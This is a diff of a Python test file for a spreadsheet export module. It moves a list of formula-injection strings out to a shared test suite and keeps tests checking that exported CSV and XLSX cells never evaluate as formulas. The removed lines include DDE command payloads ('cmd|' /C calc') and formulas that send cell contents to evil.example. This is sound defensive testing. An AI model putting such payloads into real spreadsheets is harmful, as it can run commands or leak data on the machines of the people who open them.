@@ -14,38 +14,11 @@ from handed_over import TEXTS, TICKED, csv_rows, handed_over, people, program, w
 from hypothesis import given
 from hypothesis import strategies as st
 from made_up import ANYONE, also, invented_person, questions, said, summary
+from torture.strings import IN_CELLS
 
 from workbook.answers import Answers
 from workbook.export.table import LONGEST, guard, unguard
 
-FORMULAS = [
-    "=1+1",
-    "+1+1",
-    "-1+1",
-    "@SUM(1+1)",
-    "\t=1+1",
-    "\r=1+1",
-    "\n=1+1",
-    " =1+1",
-    "'=1+1",
-    '"=1+1',
-    "a;=1+1;b",
-    "a,=1+1,b",
-    "a\t=1+1",
-    "a|=1+1",
-    "a\n=1+1\nb",
-    'a";=1+1;"b',
-    '=HYPERLINK("http://evil.example/?"&A1,"look")',
-    "=cmd|' /C calc'!A0",
-    "@SUM(1+1)*cmd|' /C calc'!A0",
-    "-2+3+cmd|' /C calc'!A0",
-    '=WEBSERVICE("http://evil.example")',
-    '=IMPORTXML(CONCAT("http://evil.example/",A1),"//a")',
-    "\uff1d1+1",
-    "\uff0b1+1",
-    "+49 170 1234567",
-]  # fmt: skip
-"""Twenty-five ways to put a formula into a cell (T14)."""
 ODD = ["00123", "1-2", "3/4", "1e5", "TRUE", "_x0041_", "_x005F_", "#N/A", "2026-11-21", "{=1}", "  spaces  "]
 FIRST = TICKED[:1]
 
@@ -61,7 +34,7 @@ def wrote(text: str) -> Answers:
 # ---- formulas
 
 
-@pytest.mark.parametrize("text", [*FORMULAS, *ODD])
+@pytest.mark.parametrize("text", [*IN_CELLS, *ODD])
 @pytest.mark.parametrize("form", ["csv", "xlsx"])
 def test_what_looks_like_a_formula_is_read_again_exactly_as_it_was_written(text: str, form: str) -> None:
     rows = (csv_rows if form == "csv" else xlsx_rows)(handed_over(wrote(text), form, FIRST))
@@ -73,7 +46,7 @@ def test_what_looks_like_a_formula_is_read_again_exactly_as_it_was_written(text:
 @pytest.mark.parametrize("separator", [",", ";", "\t", "|"])
 @pytest.mark.parametrize("quoting", [csv.QUOTE_MINIMAL, csv.QUOTE_NONE])
 def test_no_cell_begins_like_a_formula_however_a_program_splits_the_lines(separator: str, quoting: int) -> None:
-    payload = handed_over(said(*((TEXTS[0], text, f"s{n}") for n, text in enumerate(FORMULAS, 1))), "csv",
+    payload = handed_over(said(*((TEXTS[0], text, f"s{n}") for n, text in enumerate(IN_CELLS, 1))), "csv",
                           [f"words.{TEXTS[0]}.s{n}" for n in range(1, 26)])  # fmt: skip
     read = csv.reader(io.StringIO(payload.decode("utf-8-sig"), newline=""), delimiter=separator, quoting=quoting)
     cells = [cell.strip('"') for row in read for cell in row]
@@ -100,40 +73,20 @@ def test_every_cell_of_a_spreadsheet_is_text_and_stays_text_when_somebody_types_
     assert all('quotePrefix="1"' in looks[number] for number in used)
 
 
-def opened(path: Path, separator: int = 44) -> str:
-    """What LibreOffice sees in a file, formulas evaluated wherever it takes a cell for one."""
-    reading = f"--infilter=CSV:{separator},34,76,1,,0,false,true,false,false,false,0,true"
-    subprocess.run(
-        [program("soffice"), "--headless", f"-env:UserInstallation={(path.parent / 'profile').as_uri()}",
-         *([reading] if path.suffix == ".csv" else []), "--convert-to", "fods", "--outdir", path.parent, path],
-        check=True, capture_output=True, timeout=300,
-    )  # fmt: skip
-    return path.with_suffix(".fods").read_text("utf-8")
-
-
 @pytest.mark.full
-@pytest.mark.parametrize(
-    ("form", "separator"),
-    [("csv", 44), ("csv", 59), ("csv", 9), ("xlsx", 0)],
-    ids=["comma", "semicolon", "tab", "xlsx"],
-)
-def test_a_spreadsheet_program_runs_none_of_them(form: str, separator: int, tmp_path: Path) -> None:
+def test_a_spreadsheet_program_runs_none_of_them(tmp_path: Path) -> None:
+    """Of a workbook; the same of a CSV is T14b of the torture suite."""
     ticked = [f"words.{TEXTS[0]}.s{n}" for n in range(1, 26)]
-    person = said(*((TEXTS[0], text, f"s{n}") for n, text in enumerate(FORMULAS, 1)))
-    path = tmp_path / f"answers.{form}"
-    path.write_bytes(handed_over(person, form, ticked))
-    seen = opened(path, separator)
+    person = said(*((TEXTS[0], text, f"s{n}") for n, text in enumerate(IN_CELLS, 1)))
+    path = tmp_path / "answers.xlsx"
+    path.write_bytes(handed_over(person, "xlsx", ticked))
+    profile = f"-env:UserInstallation={(tmp_path / 'profile').as_uri()}"
+    command = [program("soffice"), "--headless", profile, "--convert-to", "fods", "--outdir", tmp_path, path]
+    subprocess.run(command, check=True, capture_output=True, timeout=300)
+    seen = path.with_suffix(".fods").read_text("utf-8")
 
     assert "1+1" in seen
     assert "table:formula=" not in seen
-
-
-@pytest.mark.full
-def test_the_same_words_without_a_guard_would_be_run(tmp_path: Path) -> None:
-    path = tmp_path / "bare.csv"
-    path.write_text("\n".join(text for text in FORMULAS if "\n" not in text and "\r" not in text), "utf-8")
-
-    assert opened(path).count("table:formula=") >= 5
 
 
 # ---- which answers
